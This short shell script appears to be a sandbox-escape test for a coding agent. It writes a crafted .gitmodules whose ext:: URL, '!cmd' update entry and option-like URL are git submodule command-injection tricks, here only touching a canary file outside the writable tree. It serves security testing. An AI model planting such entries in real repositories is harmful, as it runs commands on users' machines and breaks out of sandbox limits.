#!/bin/sh
# env: PWN = canary path outside; cwd = the tree the coder may write.
C=$(git rev-parse --git-common-dir 2>/dev/null || echo .git); G=$(git rev-parse --git-dir 2>/dev/null || echo .git); SC="/usr/bin/touch $PWN"

# TRY: .gitmodules update=!cmd, ext:: url, option-like url/path
printf '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch%% %s\n\tupdate = !%s\n[submodule "y"]\n\tpath = y\n\turl = -u./payload\n' "$PWN" "$SC" > .gitmodules
git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,x
